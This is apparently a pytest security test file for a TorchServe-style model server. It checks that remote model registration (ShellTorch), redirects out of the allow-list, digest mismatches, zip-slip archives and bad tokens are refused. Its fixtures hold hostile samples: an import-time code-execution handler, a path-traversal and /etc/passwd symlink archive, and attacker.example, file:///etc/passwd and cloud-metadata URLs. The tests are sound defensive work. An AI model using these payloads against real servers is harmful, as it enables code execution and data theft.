"""Secure defaults through a real server: remote URLs (ShellTorch), redirects, digests, tokens."""

from __future__ import annotations

import hashlib
import http.server
import json
import re
import stat
import textwrap
import threading
import time
import zipfile
from pathlib import Path

import pytest
import requests

from tsf.archives.writer import ArchiveSpec, write_archive
from tsf.testing import ServerProcess, assert_error

GOOD = '''
    def handle(data, context):
        if data is None:
            return None
        return ["fine" for _ in data]
'''
# What a ShellTorch attacker registers: code that runs as soon as the handler is imported.
EVIL = '''
    from pathlib import Path
    Path({marker!r}).write_text("owned")

    def handle(data, context):
        return ["owned" for _ in data or []]
'''


class ArchiveSite(http.server.ThreadingHTTPServer):
    """A web server on 127.0.0.1 that serves archives and remembers every path asked for."""

    def __init__(self, files: dict[str, bytes], redirects: dict[str, str]) -> None:
        super().__init__(("127.0.0.1", 0), SiteHandler)
        self.files, self.redirects, self.requested = files, redirects, []

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server_port}{path}"


class SiteHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.requested.append(self.path)
        if self.path in self.server.redirects:
            self.send_response(302)
            self.send_header("Location", self.server.redirects[self.path])
            self.end_headers()
        elif self.path in self.server.files:
            body = self.server.files[self.path]
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        else:
            self.send_error(404)

    def log_message(self, *args) -> None:
        pass


def archive(tmp: Path, name: str, handler_source: str) -> bytes:
    (tmp / f"{name}.py").write_text(textwrap.dedent(handler_source))
    write_archive(ArchiveSpec(model_name=name, handler=str(tmp / f"{name}.py"),
                              export_path=str(tmp)))
    return (tmp / f"{name}.mar").read_bytes()


def zip_slip() -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("MAR-INF/MANIFEST.json", json.dumps(
            {"model": {"modelName": "slip", "modelVersion": "1.0", "handler": "h.py"}}))
        zf.writestr("../../../slipped.txt", b"owned")
        link = zipfile.ZipInfo("link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, b"/etc/passwd")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("site")
    marker = tmp / "shelltorch-marker.txt"
    good = archive(tmp, "good", GOOD)
    files = {"/models/good.mar": good, "/evil.mar": archive(tmp, "evil", EVIL.format(
        marker=str(marker))), "/private/good.mar": good, "/models/slip.mar": zip_slip()}
    server = ArchiveSite(files, {"/models/bounce.mar": "/private/good.mar"})
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server, marker, hashlib.sha256(good).hexdigest()
    server.shutdown()


@pytest.fixture(scope="module")
def default_server(tmp_path_factory):
    server = ServerProcess(model_store=tmp_path_factory.mktemp("empty-store"))
    yield server
    server.stop()


def test_shelltorch_remote_registration_is_refused_by_default(site, default_server):
    """CVE-2023-43654: TorchServe fetched and loaded any URL given to its management API."""
    web, marker, _ = site
    before = list(web.requested)
    for url in (web.url("/evil.mar"), "https://attacker.example/evil.mar",
                "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"):
        assert_error(default_server.register(url), 403, "ForbiddenException", "not allowed")
    assert web.requested == before, "nothing may be fetched"
    assert not marker.exists(), "the attacker's code must never run"
    assert default_server.manage("GET", "/models").json()["models"] == []
    assert default_server.get("/ping").status_code == 200


@pytest.fixture(scope="module")
def allowing_server(site, tmp_path_factory):
    web = site[0]
    server = ServerProcess(model_store=tmp_path_factory.mktemp("allow-store"),
                           config={"allowed_urls": re.escape(web.url("/models/")) + ".*"})
    yield server
    server.stop()


def test_allowed_url_downloads_into_the_content_cache(site, allowing_server):
    web, _, digest = site
    r = allowing_server.register(web.url("/models/good.mar"), sha256=digest)
    assert r.status_code == 200, r.text
    assert allowing_server.post("/predictions/good", data=b"x").text == "fine"
    cache = allowing_server.workdir / "workspace" / "cache"
    assert [p.name for p in cache.iterdir()] == [f"{digest}.mar"]
    assert allowing_server.manage("DELETE", "/models/good").status_code == 200


def test_redirect_out_of_the_allow_list_is_refused(site, allowing_server):
    web = site[0]
    assert_error(allowing_server.register(web.url("/models/bounce.mar")), 403,
                 "ForbiddenException", "/private/good.mar")
    assert "/models/bounce.mar" in web.requested
    assert "/private/good.mar" not in web.requested


def test_digest_mismatch_loads_nothing(site, allowing_server):
    web = site[0]
    assert_error(allowing_server.register(web.url("/models/good.mar"), sha256="a" * 64), 400,
                 "BadRequestException", "digest mismatch")
    assert allowing_server.manage("GET", "/models").json()["models"] == []


def test_a_store_file_named_like_a_digest_is_still_hashed(site, tmp_path):
    web, _, digest = site
    fake = "0" * 64
    (tmp_path / f"{fake}.mar").write_bytes(requests.get(web.url("/models/good.mar")).content)
    server = ServerProcess(model_store=tmp_path)
    try:
        assert_error(server.register(f"{fake}.mar", sha256=fake), 400, "BadRequestException",
                     f"got {digest}")
        assert server.manage("GET", "/models").json()["models"] == []
        assert server.register(f"{fake}.mar", sha256=digest).status_code == 200
    finally:
        server.stop()


def test_hostile_download_writes_nothing_outside_the_workspace(site, allowing_server):
    web = site[0]
    assert_error(allowing_server.register(web.url("/models/slip.mar")), 400,
                 "InvalidModelArchiveException")
    workspace = allowing_server.workdir / "workspace"
    assert not any(p.name == "slipped.txt" for p in allowing_server.workdir.parent.rglob(
        "slipped.txt"))
    assert not list((workspace / "downloads").iterdir())
    assert not (workspace / "models").exists() or not list((workspace / "models").iterdir())


@pytest.fixture(scope="module")
def token_server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("tokens")
    (tmp / "key_file.json").write_text(json.dumps(  # TorchServe's key file format
        {"management": {"key": "m-secret"}, "inference": {"key": "i-secret"},
         "API": {"key": "unused"}}))
    archive(tmp, "good", GOOD)
    server = ServerProcess(model_store=tmp, models=["good=good.mar"],
                           config={"auth_token_file": str(tmp / "key_file.json")})
    yield server
    server.stop()


def test_tokens_guard_inference_and_management_but_never_health(token_server):
    s = token_server
    deadline = time.monotonic() + 60
    while s.get("/ping").status_code != 200:  # no token needed, while loading or after
        assert time.monotonic() < deadline, s.log()
        time.sleep(0.1)
    missing = assert_error(s.post("/predictions/good", data=b"x"), 401, "UnauthorizedException")
    assert "Bearer" in missing["message"]
    r = s.post("/predictions/good", data=b"x", headers={"Authorization": "Bearer wrong"})
    assert_error(r, 401, "UnauthorizedException", "invalid token")
    assert r.headers["WWW-Authenticate"].startswith('Bearer realm="tsf inference"')
    assert_error(s.post("/predictions/good", data=b"x",
                        headers={"Authorization": "Bearer m-secret"}), 401)
    ok = s.post("/predictions/good", data=b"x", headers={"Authorization": "Bearer i-secret"})
    assert ok.status_code == 200 and ok.text == "fine"
    assert_error(s.manage("GET", "/models"), 401)
    assert_error(s.manage("GET", "/models", headers={"Authorization": "Bearer i-secret"}), 401)
    assert s.manage("GET", "/models", headers={"Authorization": "Bearer m-secret"}).json()[
        "models"][0]["modelName"] == "good"
    assert s.request("GET", s.metrics, "/metrics").status_code == 200


def test_model_api_can_be_switched_off(tmp_path):
    archive(tmp_path, "good", GOOD)
    server = ServerProcess(model_store=tmp_path, models=["good=good.mar"],
                           config={"enable_model_api": "false"})
    try:
        assert_error(server.register("good.mar", model_name="again"), 403, "ForbiddenException",
                     "enable_model_api")
        assert_error(server.manage("DELETE", "/models/good"), 403, "ForbiddenException")
        assert server.post("/predictions/good", data=b"x").text == "fine"
    finally:
        server.stop()
